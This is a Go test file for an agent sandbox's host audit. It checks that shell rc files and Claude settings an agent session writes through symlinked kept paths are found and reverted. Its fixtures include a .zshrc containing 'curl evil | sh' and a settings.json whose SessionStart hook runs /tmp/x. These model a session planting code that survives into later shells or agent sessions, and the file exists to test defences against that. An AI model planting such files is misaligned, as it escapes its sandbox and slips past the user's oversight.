package hostaudit

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/policy"
)

// TestKeptZDOTDIRThroughKeptLink: ZDOTDIR=~/.config/zsh where ~/.config/zsh is a
// symlink inside the kept ~/.config to a dotfiles checkout (GNU stow's shape). zsh
// follows the link as it is when it starts; the session replaced the link with a
// directory of its own and wrote a .zshrc there. The launcher resolved ZDOTDIR to
// the checkout (not kept) once, before the session, and the audit looked nowhere:
// the next shell ran the session's .zshrc. Both the path as the variable gives it
// and where it leads are audited now; the .zshrc is put back (removed).
func TestKeptZDOTDIRThroughKeptLink(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	repo := filepath.Join(home, "repo")
	dots := filepath.Join(home, "dotfiles", "zsh")
	config := filepath.Join(home, ".config")
	for _, d := range []string{repo, dots, config} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dots, ".zshrc"), []byte("echo hi\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	zdot := filepath.Join(config, "zsh")
	if err := os.Symlink("../dotfiles/zsh", zdot); err != nil {
		t.Fatal(err)
	}
	t.Setenv("ZDOTDIR", zdot)
	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
	var stderr bytes.Buffer
	cfg := &Config{Stderr: &stderr}
	k := startKept(t, cfg, p)
	// The session: the link becomes a directory with a .zshrc.
	if err := os.Remove(zdot); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(zdot, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(zdot, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := &Outcome{}
	k.Finish(cfg, out)
	if _, err := os.Lstat(filepath.Join(zdot, ".zshrc")); err == nil {
		t.Errorf("the .zshrc the session wrote at ZDOTDIR is still there; findings %q, stderr %s", out.AuditFindings, stderr.String())
	}
	if len(out.AuditFindings) == 0 || !strings.Contains(strings.Join(out.AuditFindings, "\n"), ".zshrc") {
		t.Errorf("no finding names the .zshrc: %q", out.AuditFindings)
	}
}

// TestKeptZDOTDIRLinkBothKept: with the link's target kept too (--keep ~/.config
// --keep ~/dotfiles), the .zshrc the session writes where the link leads is the
// one the next shell runs, and is put back, as when the launcher resolved ZDOTDIR.
func TestKeptZDOTDIRLinkBothKept(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	repo := filepath.Join(home, "repo")
	dotfiles := filepath.Join(home, "dotfiles")
	config := filepath.Join(home, ".config")
	for _, d := range []string{repo, filepath.Join(dotfiles, "zsh"), config} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	rc := filepath.Join(dotfiles, "zsh", ".zshrc")
	if err := os.WriteFile(rc, []byte("echo hi\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	zdot := filepath.Join(config, "zsh")
	if err := os.Symlink("../dotfiles/zsh", zdot); err != nil {
		t.Fatal(err)
	}
	t.Setenv("ZDOTDIR", zdot)
	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{
		{Path: config, Dir: true, From: "--keep"}, {Path: dotfiles, Dir: true, From: "--keep"}}}
	var stderr bytes.Buffer
	cfg := &Config{Stderr: &stderr}
	k := startKept(t, cfg, p)
	if err := os.WriteFile(rc, []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := &Outcome{}
	k.Finish(cfg, out)
	if b, _ := os.ReadFile(rc); string(b) != "echo hi\n" {
		t.Errorf("the .zshrc where ZDOTDIR's link leads after the audit: %q; findings %q", b, out.AuditFindings)
	}
}

// TestKeptClaudeDirThroughKeptLink: CLAUDE_CONFIG_DIR through a symlink inside a
// kept path, as ZDOTDIR above: the session's settings.json with a hook where the
// link was is put back.
func TestKeptClaudeDirThroughKeptLink(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	repo := filepath.Join(home, "repo")
	config := filepath.Join(home, ".config")
	for _, d := range []string{repo, filepath.Join(home, "dotfiles", "claude"), config} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	dir := filepath.Join(config, "claude")
	if err := os.Symlink("../dotfiles/claude", dir); err != nil {
		t.Fatal(err)
	}
	t.Setenv("CLAUDE_CONFIG_DIR", dir)
	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
	var stderr bytes.Buffer
	cfg := &Config{Stderr: &stderr}
	k := startKept(t, cfg, p)
	if err := os.Remove(dir); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	settings := filepath.Join(dir, "settings.json")
	if err := os.WriteFile(settings, []byte(`{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"/tmp/x"}]}]}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	out := &Outcome{}
	k.Finish(cfg, out)
	if _, err := os.Lstat(settings); err == nil {
		t.Errorf("the settings.json the session wrote at CLAUDE_CONFIG_DIR is still there; findings %q", out.AuditFindings)
	}
}

// startKept starts the kept paths' audit of p, failing the test if it is refused.
func startKept(t *testing.T, cfg *Config, p *policy.Policy) *Kept {
	t.Helper()
	k, err := StartKept(cfg, p, "T", &Outcome{})
	if err != nil {
		t.Fatal(err)
	}
	return k
}
